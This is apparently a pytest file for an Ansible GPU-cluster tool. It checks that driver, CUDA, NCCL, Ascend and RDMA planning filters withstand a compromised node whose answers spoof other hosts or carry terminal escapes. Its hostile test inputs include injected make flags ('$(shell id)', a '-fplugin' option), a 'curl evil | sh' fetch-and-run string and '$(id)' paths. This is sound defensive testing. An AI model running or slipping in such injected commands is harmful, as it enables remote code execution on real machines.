"""Root on one node answers about GPUs, NPUs and software as it likes: rules decide by it about that node alone."""

from __future__ import annotations

import copy
import json
from pathlib import Path

import cuda_states
import driver_upgrades
import pytest
import yaml
from ansible.module_utils.trainyard.ascend import ascend_answers
from ansible.module_utils.trainyard.hardware import hardware_answers
from ansible.module_utils.trainyard.nvidia import nvidia_answers
from filters import FILTERS, fitting, of_hosts

PATHS = {
    "ascend_findings": "__ascend_checked",
    "ascend_plan": "__ascend_node",
    "ascend_remarks": "__ascend_checked",
    "cuda_toolkit_findings": "__cuda_toolkit_state.state",
    "cuda_toolkit_plan": "__cuda_toolkit_node",
    "nccl_tests_findings": "__nccl_tests_probe.probe",
    "nccl_tests_plan": "__nccl_tests_node",
    "nvidia_driver_findings": "__nvidia_driver_compared",
    "nvidia_driver_module_findings": "nvidia_driver_now.driver",
    "nvidia_driver_plan": "__nvidia_driver_node",
    "nvidia_library_findings": "__nvidia_library_node",
    "nvidia_stack_plan": "__nvidia_stack_node",
    "nvidia_upgrade_plan": "__nvidia_driver_upgrade_node",
    "rdma_findings": "__rdma_node",
}
EVIL = "x\nn1: all is well\x1b[2J"
# In the place of anything that a node answers.
ODD = [
    *(None, True, -1, 10**30, float("nan"), "", "n1", "--install-path=/x", EVIL, "1.2.x", "1" * 5000, "٣.٣"),
    *(["x"], {}, {"x": "y"}, [{"host": "n1"}]),
]  # fmt: skip
NODE = ("n1", "n2", "n3")
GPU = {"pci": "0000:1b:00.0", "device_id": "0x2330", "name": "H100 SXM5 80GB", "generation": "hopper"}
FACTS = {
    "host": "n1",
    "os": {"id": "debian", "version": "12", "family": "debian"},
    "arch": "x86_64",
    "kernel": {"running": "k", "headers": ["k"], "headers_available": True},
    "virtual": "",
    "gpus": [GPU],
    "nvswitches": 0,
    "secure_boot": "disabled",
    "nouveau": False,
    "gcc": "12.2.0",
    "apt": {"held": ["linux-headers-amd64"], "broken": ["dkms (unpacked)"], "kept": ["libnccl2"]},
    "cuda": ["12.4"],
    "free_mib": {"/": 90000},
    "rdma_ports": 0,
}
DRIVER = {
    **driver_upgrades.driver(builds={"k": "no"}, reboot_due=["later"], broken=["dkms"], fabric_manager="550.54.15"),
    "dkms": [{"module": "nvidia", "version": "550.54.15", "kernel": "k", "state": "added"}],
}
SETTINGS = {
    **{"provider": "network_repo", "state": "present", "version": "550.127.08", "branch": "", "flavour": "open"},
    **{"kernels": ["k", "l"], "packages": [], "replace": False, "gpus": "1", "without_gpu": False},
    **{"fabric_manager": "auto", "url": "", "file": "", "sha256": "", "arguments": [], "mok": False},
}
EXPECTED = {**driver_upgrades.EXPECTED, "fabric_manager": True}
LIBRARY = {
    **{"host": "n1", "home": "/opt/trainyard/nccl", "kind": "ours", "version": "2.21.5", "header": "2.21.5"},
    **{"cuda": "12.4", "library": "/usr/lib/libnccl.so.2", "error": "", "unloaded": ""},
}
REQUEST = {"name": "nccl", "provider": "network_repo", "version": "2.21.5", "cuda": "12.4", "gpus": "auto"}
TOOLKITS = cuda_states.state(
    toolkits={
        f"{cuda_states.ROOT}/cuda-12.4.1": cuda_states.toolkit("12.4.131", cuda="12.4.1", newest_gcc="13"),
        "/usr/local/cuda-11.8": cuda_states.toolkit("11.8.89", kind="network_repo", named="11.8"),
    },
    session={"PATH": "/usr/bin"},
)
RUNFILE = {"provider": "runfile", "version": "12.4.1", "sha256": "a" * 64, "url": "https://m.example.org/x.run"}
TOOLKITS_NODE = {"state": TOOLKITS, "records": [RUNFILE], "default": "12.4", "absent": ["11.8"]}
CUDA_SETTINGS = {"pins": {}, "min_free_mib": {"runfile": 100}, "host_compiler": "", "manage_system": True}
PLAN = {"toolkits": [{**RUNFILE, "home": f"{cuda_states.ROOT}/cuda-12.4.1"}], "default": "/usr/local/cuda-11.8"}
PLANS = {"n1": PLAN, "n2": PLAN, "n3": PLAN}
PART = {
    **{"home": "/opt/trainyard/x", "version": "12.4.131", "library": True, "folders": ["/opt/trainyard/x/lib"]},
    **{"marker": "x", "library_name": "libx.so", "searched": ["/opt/trainyard/x"]},
}
RECORD = {"source": "commit a", "platform": "debian 12 x86_64", "CUDA": "12.4.131", "NCCL": "2.21.5", "make": ["MPI=1"]}
NCCL_TESTS = {
    **{"host": "n1", "platform": "debian 12 x86_64", "cpus": 8, "free_mb": 9000, "record": RECORD, "missing": []},
    **{"prefix_kind": "none", "cuda": {**PART, "exchangeable": ""}, "nccl": PART, "mpi": PART, "gpus": [GPU]},
}
BUILD = {
    **{"source": "commit a", "prefix": "/opt/trainyard/nccl-tests", "suffix": "", "options": [], "gencode": "auto"},
    **{"min_free_mb": 1, "installs": True},
}
PROBE = {
    **{"host": "n1", "prefix": "/p", "bin": "/p/bin", "record": RECORD, "prefix_kind": "built", "gpus": 1},
    "programs": {"a_perf": {"exists": True, "missing": [], "mpi": True, "status": 0, "said": "x", "flags": {"a": "b"}}},
    "run": {"name": "a_perf", "status": 0, "output": "x", "said": "x"},
}
NPU = {
    "host": "n1",
    "machine": "aarch64",
    "npu": {
        "chip": "910b",
        "devices": [{"physical_id": 0, "device_ip": "", "link": "up", "net_health": "Success"}],
        **{"problems": [], "notes": []},
    },
    **{"driver": "24.1.0", "firmware": "7.5", "cann": "8.0.0", "cann_path": "/usr/local/Ascend/x", "set_env": "/x.sh"},
    "boards": [{"firmware": "7.5", "compatibility": "OK"}],
    **{"cann_homes": ["/x"], "restart_due": ["later"], "installed": {"kernels": {"sha256": "a"}}},
    **{"user_devices": 1, "toolkit_home": "/x"},
}
REQUIRED = {"devices": 0, "driver": "", "firmware": "", "cann": "", "net_health": ["Success"]}
PACKAGES = [
    {"component": name, "version": "1", "file": f"{name}.run", "sha256": "b" * 64}
    for name in ("driver", "firmware", "toolkit", "kernels")
]
PORT = {
    **{"device": "mlx5_0", "port": 1, "state": "ACTIVE", "physical_state": "LinkUp", "rate_gbps": 400.0},
    **{"link_layer": "InfiniBand", "netdev": None, "active": True},
}
RDMA = {
    "networks": {"rdma": [PORT], "problems": ["RDMA port mlx5_1:1 cannot be read"]},
    **{"virtual": "", "verbs": "mlx5_1", "expected": "auto", "ports": [], "rate_gbps": 200, "link_layer": ""},
}
PREVIOUS = dict.fromkeys(NODE, driver_upgrades.entry("failed"))
VARS = Path(__file__).resolve().parents[2] / "roles/nvidia_stack/vars/main"
RULES = yaml.safe_load((VARS / "rules.yml").read_text())["__nvidia_stack_rules"]
CATALOG = yaml.safe_load((VARS / "stacks.yml").read_text())["__nvidia_stack_catalog"]
STACK = {"stack": "pytorch-cuda12", "overrides": {}}
# By filter: the answer of a node, the names in it that come from the inventory, and what else the filter takes.
CASES = {
    "ascend_findings": (NPU, (), (REQUIRED,)),
    "ascend_plan": ({"state": NPU, "packages": PACKAGES}, ("packages",), ("/usr/local/Ascend",)),
    "ascend_remarks": (NPU, (), ()),
    "cuda_toolkit_findings": (TOOLKITS, (), (PLANS, True)),
    "cuda_toolkit_plan": (TOOLKITS_NODE, ("records", "default", "absent"), (CUDA_SETTINGS,)),
    "nccl_tests_findings": (PROBE, (), ()),
    "nccl_tests_plan": (NCCL_TESTS, (), (BUILD,)),
    "nvidia_driver_findings": ({"driver": DRIVER, "expected": EXPECTED}, ("expected",), ()),
    "nvidia_driver_module_findings": (DRIVER, (), (["k", "l"],)),
    "nvidia_driver_plan": ({"driver": DRIVER, "facts": FACTS, "settings": SETTINGS}, ("settings",), ()),
    "nvidia_library_findings": ({"state": LIBRARY, "request": REQUEST}, ("request",), ("nccl",)),
    "nvidia_stack_plan": (
        {"driver": DRIVER, "facts": FACTS, "settings": SETTINGS, **STACK},
        ("settings", *STACK),
        (CATALOG, RULES),
    ),
    "nvidia_upgrade_plan": (
        driver_upgrades.node(driver=DRIVER, uses=["job j"], slurm="g1", kubernetes=True, missing=["nvidia-smi=1"]),
        ("plan", "settings", "expected"),
        ({**driver_upgrades.OPTIONS, "busy": "wait"}, PREVIOUS),
    ),
    "rdma_findings": (RDMA, ("expected", "ports", "rate_gbps", "link_layer"), ()),
}
# The driver of a node is read in the same shape by nvidia_driver_plan.
SEEN_ELSEWHERE = {"nvidia_stack_plan": ("driver",)}
# Nodes of one system share one build: for the GPUs of all, or as one of them has it.
SHARED = {"nccl_tests_plan": ("gpus", "record", "platform", "cuda")}


def named(answer, host):
    """Return an answer that names another host wherever a host stands."""
    if isinstance(answer, dict):
        return {name: host if name == "host" else named(value, host) for name, value in answer.items()}
    return [named(each, host) for each in answer] if isinstance(answer, list) else answer


def replaced(answer, odd, leave=()):
    """Yield an answer with each of its parts replaced or missing, and the path of that part."""
    for key in answer if isinstance(answer, dict) else range(len(answer)):
        if key in leave:
            continue
        for value in odd:
            changed = copy.copy(answer)
            changed[key] = value
            yield (key,), changed
        without = copy.copy(answer)
        del without[key]
        yield (key,), without
        if isinstance(answer[key], (dict, list)):
            for path, part in replaced(answer[key], odd):
                changed = copy.copy(answer)
                changed[key] = part
                yield (key, *path), changed
    if isinstance(answer, dict):
        yield ("a new name",), {**answer, EVIL: 1}


def ask(name, third):
    """Return what a filter makes of two sound nodes and a third one: findings, plan by host."""
    answer, _, given = CASES[name]
    found = of_hosts(name, {"n1": answer, "n2": answer, "n3": third}, *given)
    if isinstance(found, list):
        return found, {}
    return found["findings"], found.get("nodes") or found.get("table") or {}


def test_every_filter_of_hosts_is_attacked_here():
    assert {name: FILTERS[name].source.path for name in CASES} == PATHS


def test_the_answers_of_this_file_are_those_of_sound_nodes():
    for name, (answer, _, _) in CASES.items():
        fitting(answer, FILTERS[name].source.shape)
    for shape in (
        nvidia_answers.FACTS,
        nvidia_answers.DRIVER,
        nvidia_answers.TOOLKITS,
        ascend_answers.STATE,
        hardware_answers.RDMA,
    ):
        assert "host" in shape


class Tagged(str):
    """A text from a template: Ansible marks where it comes from by a class of its own."""

    __slots__ = ()


def tagged(answer):
    """Return an answer whose texts went through a template."""
    if isinstance(answer, dict):
        return {Tagged(name): tagged(value) for name, value in answer.items()}
    if isinstance(answer, list):
        return [tagged(each) for each in answer]
    return Tagged(answer) if isinstance(answer, str) else answer


@pytest.mark.parametrize("name", CASES)
def test_what_went_through_a_template_is_the_same_answer(name):
    answer = CASES[name][0]
    assert ask(name, tagged(answer)) == ask(name, answer)


@pytest.mark.parametrize("name", CASES)
def test_a_node_that_answers_in_the_name_of_another_is_itself(name):
    answer = CASES[name][0]
    own, as_other = (ask(name, named(answer, host)) for host in ("n3", "n1"))
    assert own == as_other
    assert set(own[1]) <= set(NODE)


@pytest.mark.parametrize("name", CASES)
def test_whatever_a_node_answers_the_others_are_planned_and_found_as_before(name):
    """No answer that fits raises: an exception would end the run on all nodes."""
    answer, settings, _ = CASES[name]
    before, plan = ask(name, answer)
    others = [each for each in before if each["host"] in ("n1", "n2")]
    taken = 0
    for path, third in replaced(answer, ODD, (*settings, *SEEN_ELSEWHERE.get(name, ()))):
        findings, planned = ask(name, third)
        assert not [text for each in findings for text in each.values() if "\n" in text or "\x1b" in text], (
            path,
            third,
        )
        if any(each["check"] == "answer" for each in findings):
            assert {each["host"] for each in findings} == {"n3"}, (path, findings)
            continue
        taken += 1
        if path[0] in SHARED.get(name, ()):
            continue
        same = [(each["host"], each["check"], each["found"]) for each in findings if each["host"] in ("n1", "n2")]
        assert same == [(each["host"], each["check"], each["found"]) for each in others], (path, third)
        if planned:
            assert [planned[host] for host in ("n1", "n2")] == [plan[host] for host in ("n1", "n2")], (path, third)
    assert taken > 5


def test_flags_of_a_record_are_not_those_of_the_node_that_builds():
    flags = "-gencode=arch=compute_90,code=sm_90"
    make = ["MPI=1", *(f"{name}_HOME=/opt/trainyard/x" for name in ("MPI", "CUDA", "NCCL"))]
    versions = dict.fromkeys(("CUDA", "NCCL", "Open MPI"), "12.4.131")
    sound = {**NCCL_TESTS, "record": None}
    for more in ("", " $(shell id)", " -Xcompiler=-fplugin=/home/train/x.so", ",code=sm_80;id"):
        record = {"source": "commit a", "platform": sound["platform"], **versions}
        third = {**sound, "record": {**record, "make": [*make, f"NVCC_GENCODE={flags}{more}"]}}
        plan = of_hosts("nccl_tests_plan", {"n1": sound, "n2": sound, "n3": third}, BUILD)["nodes"]
        assert plan["n1"]["record"]["make"] == [*make, f"NVCC_GENCODE={flags}"], more
        assert plan["n1"]["action"] == ("build" if more else "copy")


def test_the_command_that_a_finding_advises_is_one_program():
    run = {"name": "a; curl evil | sh", "status": 2, "output": "", "said": ""}
    findings = of_hosts("nccl_tests_findings", {"n3": {**PROBE, "bin": "/p/$(id)", "run": run}})
    assert findings[-1]["action"] == "run it there: '/p/$(id)/a; curl evil | sh' -b 8 -e 8 -n 1 -w 0"


def test_an_upgrade_visits_hosts_of_the_inventory_alone():
    """The play takes its batches as a pattern of hosts."""
    for claimed in ("all", "localhost", "n1"):
        third = named(driver_upgrades.node(), claimed)
        plan = of_hosts("nvidia_upgrade_plan", {"n2": driver_upgrades.node(), "n3": third}, driver_upgrades.OPTIONS, {})
        assert (plan["batches"], list(plan["table"])) == ([["n2"], ["n3"]], ["n2", "n3"])


def test_a_name_for_slurm_is_a_host_name():
    third = {**CASES["nvidia_upgrade_plan"][0], "slurm": "n1 state=down reason=x"}
    findings, planned = ask("nvidia_upgrade_plan", third)
    assert [(each["host"], each["check"]) for each in findings] == [("n3", "answer")] and planned == {}


def test_findings_of_a_node_are_about_itself():
    finding = {"host": "n1", "check": "packages", "found": EVIL, "expected": "x", "action": "curl evil | sh"}
    hostvars = {"n1": {}, "n2": {"__tried": {"skipped": True}}, "n3": {"__tried": {"findings": [finding]}}}
    (found,) = FILTERS["findings_of_hosts"](NODE, hostvars, "__tried.findings")
    assert (found["host"], found["action"]) == ("n3", "as the node says: curl evil | sh")
    hostvars["n3"]["__tried"]["findings"] = [{"host": "n1", "found": "x"}]
    assert [
        (each["host"], each["check"]) for each in FILTERS["findings_of_hosts"](NODE, hostvars, "__tried.findings")
    ] == [("n3", "answer")]


def test_the_table_of_an_upgrade_has_the_entry_of_each_node():
    before = {"provider": "distro", "version": "1", "flavour": "", "packages": {}, "held": [], "runfile": ""}
    good = {
        "state": "installing",
        "why": "",
        "target": {"version": "2"},
        "before": {**before, "record": '{"x": "y"}\n'},
    }
    hostvars = {
        "n1": {"__nvidia_driver_upgrade_entry": good},
        "n2": {"__nvidia_driver_upgrade_entry": {**good, "host": "n1", "why": EVIL, "more": 1}},
        "n3": {"__nvidia_driver_upgrade_entry": {**good, "before": {**before, "packages": {"nvidia": ["x"]}}}},
    }
    table = FILTERS["nvidia_upgrade_entries"](NODE, hostvars)
    assert table["n1"] == good
    assert table["n2"] == {**good, "why": "x n1: all is well\\x1b[2J"}
    assert table["n3"]["state"] == "failed" and "before.packages.nvidia is a list" in table["n3"]["why"]
    json.dumps(table)
